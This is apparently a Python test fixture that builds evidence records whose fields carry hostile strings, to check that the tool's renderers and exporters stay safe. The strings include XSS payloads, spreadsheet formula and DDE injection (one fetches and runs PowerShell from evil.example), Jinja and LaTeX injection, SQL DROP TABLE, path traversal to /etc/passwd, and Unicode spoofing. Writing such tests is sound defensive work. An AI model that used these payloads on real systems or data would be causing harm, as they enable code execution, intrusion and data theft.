"""Valid evidence whose names attack whatever shows them."""

from __future__ import annotations

from typing import Final

from tests.builders import INCIDENT, case_fields, make_case, make_evidence, make_report, make_source
from undercount.data import Case, Evidence, Kind

MARKUP: Final = "[bold red]not markup[/] :skull:"
SCRIPT: Final = "<script>alert(1)</script>"
FORMULA: Final = "=HYPERLINK(0)"
MATHS: Final = r"$\frac{1}{0$ and $x^$"
REVERSED: Final = "abc\u202edef"
LONG: Final = "name" * 500
WIDE: Final = "西摩苏尔" * 20

TEXTS: Final = {
    "script": SCRIPT,
    "script upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "close script": "</script><script>alert(1)//",
    "image handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "body handler": '"><body onload="alert(1)">',
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute single": "' onfocus='alert(1)' autofocus='",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "style": "<style>@import 'http://evil.example/x.css';</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "base": "<base href=http://evil.example/>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "script url": "javascript:alert(1)",
    "data url": "data:text/html,<script>alert(1)</script>",
    "file url": "file:///etc/passwd",
    "web url": "https://evil.example/%7B?a=1&b={x}#<b>",
    "equals": FORMULA,
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "import": '=IMPORTXML("http://evil.example","//a")',
    "wide equals": "＝1+1",
    "no-break equals": "\u00a0=1+1",
    "ideographic equals": "\u3000=1+1",
    "zero-width equals": "\u200b=1+1",
    "bidi override": REVERSED,
    "bidi isolate": "a\u2066b\u2069\u202a",
    "bom": "\ufeff=1+1",
    "tags block": "flag\U000e0041\U000e007f",
    "homoglyphs": "Аmnesty Internаtional",
    "arabic": "مراسلون بلا حدود (تقرير)",
    "kurdish": "ڕێکخراوی مافی مرۆڤ",
    "hebrew mixed": "אבג abc 123 דהו",
    "emoji": "👩‍👩‍👧‍👦 ☠️ 🏴‍☠️",
    "combining": "Z̸̢̛a̷l̵g̶o̸" * 20,
    "jinja": "{{ 7 * 7 }} {{ card.__class__.__mro__ }}",
    "jinja block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "{0.__class__} %s %n ${7*7} #{7*7}",
    "latex input": r"\input{/etc/passwd} \write18{id}",
    "latex braces": "}} @misc{evil, title={x}, {{ } {",
    "latex specials": r"100 % of $x_1^2$ & #1 ~ \\",
    "maths": MATHS,
    "json": '", "@id": "http://evil.example", "x": "\\u0000',
    "json context": '{"@context": "http://evil.example/context.jsonld"}',
    "xml": "]]></t></si><f>1+1</f>&xxe;",
    "sql": "'; DROP TABLE reports; --",
    "csv": 'a","b"\u2028,=1+1',
    "path": "../../../../etc/passwd",
    "path windows": r"..\..\windows\system32\x.dll",
    "markup": MARKUP,
    "long": LONG,
    "wide": WIDE,
    "line break": "first\n=second\n<b>third</b>",
    "tab": "\t=1+1",
}
"""What may stand in a quote. Names hold neither line breaks nor tabs."""
REFUSED: Final = {"nul": "a\0b", "return": "\r=1+1", "escape": "\x1b[31mred", "bell": "\a=1+1", "c1": "\x9b31m"}
"""What evidence refuses, and what must do no harm where it comes from elsewhere."""

EVERY: Final = [*TEXTS.values(), *REFUSED.values()]
KINDS: Final = [*TEXTS, *REFUSED]


def attacking_evidence() -> Evidence:
    """Evidence of testland in which every one of `TEXTS` is a quote, a document, a reason, a note, and most a name."""
    sources, reports = [], []
    for number, text in enumerate(TEXTS.values()):
        name = text if text.isprintable() or not set("\n\t") & set(text) else f"source {number}"
        sources.append(make_source(source=f"s{number}", name=name, kind=Kind.CLAIMANT))
        document = " ".join(text.split()) or "-"
        reports.append(
            make_report(
                report=f"r{number}", source=f"s{number}", quote=text, document=document, reason=text, note=text,
                published_basis=document, disputed_by=(document.replace(";", ""),), used=number % 3 == 0,
            )
        )  # fmt: skip
    case = make_case(title=TEXTS["close script"], description=TEXTS["line break"])
    return make_evidence(reports, case=case, sources=sources)


def hostile_evidence() -> Evidence:
    """Evidence of testland with such names in title, levels, incident, sources and reasons."""
    fields = case_fields()
    fields["title"] = f"{SCRIPT} {MARKUP} {MATHS} {REVERSED}"
    fields["dimensions"] = {
        "actor": {"levels": {"red": FORMULA, "blue": LONG}},
        "area": {"levels": {"north": f"+{SCRIPT}", "south": MARKUP}},
    }
    fields["incidents"] = (
        *({**incident, "title": f"{MATHS} {LONG}"} for incident in fields["incidents"]),
        *({**fields["incidents"][0], "incident": f"extra-{i}", "title": f"{WIDE} {i}"} for i in range(20)),
    )
    sources = (
        make_source(name=f"{SCRIPT} {MARKUP}"),
        make_source(source="press", name=LONG, kind=Kind.CLAIMANT),
        make_source(source="wide", name=WIDE, kind=Kind.CLAIMANT),
        make_source(source="bidi", name=f"{REVERSED} {MATHS}", kind=Kind.CLAIMANT),
    )
    reports = (
        make_report(report="[red]r1[/red]"),
        make_report(report="r2", source="press", incident=INCIDENT, actors=("red", "blue")),
        make_report(report="r3" * 60, source="wide", areas=("north", "south"), window_end=fields["timeline"]["end"]),
        make_report(report="=r4", source="bidi"),
        make_report(report="<b>r5</b>", used=False, reason=f"{MARKUP} {SCRIPT} {LONG}"),
    )
    return make_evidence(reports, case=Case.model_validate(fields), sources=sources)
